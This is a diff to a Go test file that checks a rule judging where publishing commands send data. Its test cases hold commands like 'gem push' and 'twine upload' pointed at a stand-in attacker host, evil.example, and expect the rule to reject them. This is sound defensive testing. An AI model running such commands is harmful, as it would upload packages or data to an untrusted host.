@@ -115,7 +115,8 @@ func TestDestinationsOfEveryProgram(t *testing.T) {
 		{"mytool", "mytool --to=https://evil.example/x", "not an option the rule spells"},
 		// Publishing programs without an entry: their options pass only as
 		// the rule spells them, and a URL among their words is judged as any.
-		{"gem push --host", "gem push --host https://evil.example x.gem", notRemote},
+		{"gem push --host", "gem push --host https://evil.example x.gem", notRegistry},
+		{"gem push", "gem push --host https://evil.example x.gem", notRegistry},
 		{"twine upload --repository-url", "twine upload --repository-url https://evil.example/legacy dist/x.whl", notRemote},
 		{"twine upload", "twine upload --repository-url=https://evil.example/legacy dist/x.whl", "not an option the rule spells"},
 	} {
